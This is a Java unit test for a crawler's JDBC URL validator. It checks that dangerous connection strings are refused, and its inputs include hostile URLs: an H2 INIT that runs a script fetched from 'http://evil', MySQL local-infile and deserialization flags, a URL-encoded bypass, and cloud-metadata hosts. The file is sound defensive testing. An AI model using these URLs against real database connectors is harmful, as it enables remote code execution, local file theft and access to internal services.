package dev.skep.crawler.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.skep.crawler.egress.Egress;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What a URL may not do, whoever wrote it. */
class JdbcUrlTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://localhost/d?socketFactory=org.x.Y&socketFactoryArg=http://evil",
                "jdbc:postgresql://localhost/d?sslfactory=x",
                "jdbc:postgresql://localhost/d?user=a&loggerFile=/tmp/x",
                "jdbc:postgresql://localhost/d?PGHOST=169.254.169.254",
                "jdbc:mysql://localhost/d?allowLoadLocalInfile=true",
                "jdbc:mysql://localhost/d?%61llowLoadLocalInfile=true",
                "jdbc:mysql://localhost/d?a=b&autoDeserialize=true&queryInterceptors=x",
                "jdbc:mariadb://localhost/d?allowLocalInfile=true",
                "jdbc:h2:tcp://localhost/d;INIT=RUNSCRIPT FROM 'http://evil'",
                "jdbc:h2:tcp://localhost/d;TRACE_LEVEL_FILE=3",
                "jdbc:sqlserver://localhost;databaseName=d;socketFactoryClass=x",
                "jdbc:sqlserver://localhost;serverName=169.254.169.254",
                "jdbc:snowflake://localhost/?db=d&useProxy=true",
                "jdbc:trino://localhost/hive?SSLTrustStorePath=/etc/x",
                "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
                "jdbc:oracle:thin:@//localhost:1521/x?TNS_ADMIN=/tmp"
            })
    void refusesParametersThatReachFurther(String url) {
        assertThatThrownBy(() -> open(url, true))
                .isInstanceOf(IOException.class)
                .hasMessageContaining("is refused");
    }

    @ParameterizedTest
    @ValueSource(strings = {"jdbc:h2:mem:x", "jdbc:h2:~/x", "jdbc:h2:file:/x", "jdbc:sqlite::memory:", "jdbc:duckdb:"})
    void opensNoFileOfThisMachineUnlessAllowed(String url) throws IOException {
        assertThatThrownBy(() -> open(url, false)).hasMessageContaining("would open a file or memory of this machine");
        assertThat(open(url, true).dialect().isEmbedded(url)).isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql:d",
                "jdbc:postgresql:///d",
                "jdbc:mysql:replication://localhost,(host=x,port=1)/d",
                "jdbc:mysql://address=(host=x)/d",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=x)))",
                "jdbc:oracle:thin:@ldap://x/y",
                "jdbc:mysql://user:secret@localhost/d",
                "jdbc:nothing://localhost/d",
                "http://localhost"
            })
    void refusesWhatDoesNotNameItsServerPlainly(String url) {
        assertThatThrownBy(() -> open(url, true)).isInstanceOf(IOException.class);
    }

    @Test
    void talksToNoAddressOfTheLinkAndToItselfOnlyWhereAllowed() {
        assertThatThrownBy(() -> open("jdbc:postgresql://169.254.169.254/d", true))
                .hasMessageContaining("of the link");
        assertThatThrownBy(() -> open("jdbc:postgresql://localhost,[fe80::1]:5/d", true))
                .hasMessageContaining("of the link");
        assertThatThrownBy(() -> JdbcUrl.of(access("jdbc:postgresql://127.0.0.1/d", false, new Egress(false))))
                .hasMessageContaining("this machine itself");
        assertThatThrownBy(() -> JdbcUrl.of(access("jdbc:mysql://0.0.0.0/d", false, new Egress(false))))
                .hasMessageContaining("this machine itself");
    }

    @Test
    void registersTablesUnderTheAddressWithoutItsParameters() throws IOException {
        JdbcUrl url = open("jdbc:postgresql://localhost:5432/d?user=a&password=secret&ssl=true", false);

        assertThat(url.location()).isEqualTo("postgresql://localhost:5432/d");
        assertThat(url.bare()).isEqualTo("jdbc:postgresql://localhost:5432/d");
        assertThat(open("jdbc:sqlserver://localhost:1;databaseName=d;user=a", false)
                        .bare())
                .isEqualTo("jdbc:sqlserver://localhost:1;databasename=d");
        assertThat(access("jdbc:postgresql://h/d?password=secret", false, Egress.LOCAL)
                        .toString())
                .doesNotContain("secret");
    }

    @ParameterizedTest
    @CsvSource({
        "jdbc:sqlserver://localhost:1;databaseName=d, sqlserver://localhost:1/d",
        "jdbc:mariadb://localhost/d, mysql://localhost/d",
        "jdbc:mysql://localhost/d/, mysql://localhost/d",
        "jdbc:oracle:thin:@//localhost:1521/d, oracle://localhost:1521/d",
        "jdbc:oracle:thin:@localhost:1521:d, oracle://localhost:1521/d",
        "jdbc:h2:tcp://localhost:1/mem:d, h2://localhost:1/mem:d",
        "jdbc:h2:file:/data/d, h2:/data/d",
        "jdbc:sqlite:/data/d.db, sqlite:/data/d.db",
        "jdbc:sqlite:d.db, jdbc:sqlite:d.db"
    })
    void aDatabaseIsOnePlaceHoweverItsDriverIsCalled(String address, String location) throws IOException {
        assertThat(open(address, true).location()).isEqualTo(location);
    }

    @Test
    void buildsAddressesFromTheirParts() {
        assertThat(JdbcAccess.url("postgresql", "db.example", 0, "shop"))
                .isEqualTo("jdbc:postgresql://db.example:5432/shop");
        assertThat(JdbcAccess.url("sqlserver", "h", 5, "d")).isEqualTo("jdbc:sqlserver://h:5;databaseName=d");
        assertThatThrownBy(() -> JdbcAccess.url("mysql", "h", 0, "d?allowLoadLocalInfile=true"))
                .hasMessageContaining("cannot stand in an address");
        assertThatThrownBy(() -> JdbcAccess.url("paradox", "h", 0, "d")).hasMessageContaining("is no kind of database");
    }

    @Test
    void everyDialectsOwnAddressPassesItsRules() throws IOException {
        for (Dialect dialect : Dialects.ALL) {
            if (dialect.port() > 0) {
                String url = JdbcAccess.url(dialect.name(), "localhost", 0, "d");

                assertThat(open(url, false).dialect()).isSameAs(dialect);
            }
        }
    }

    private static JdbcUrl open(String url, boolean embedded) throws IOException {
        return JdbcUrl.of(access(url, embedded, Egress.LOCAL));
    }

    private static JdbcAccess access(String url, boolean embedded, Egress egress) {
        return new JdbcAccess(url, null, null, List.of(), List.of(), null, embedded, egress);
    }
}
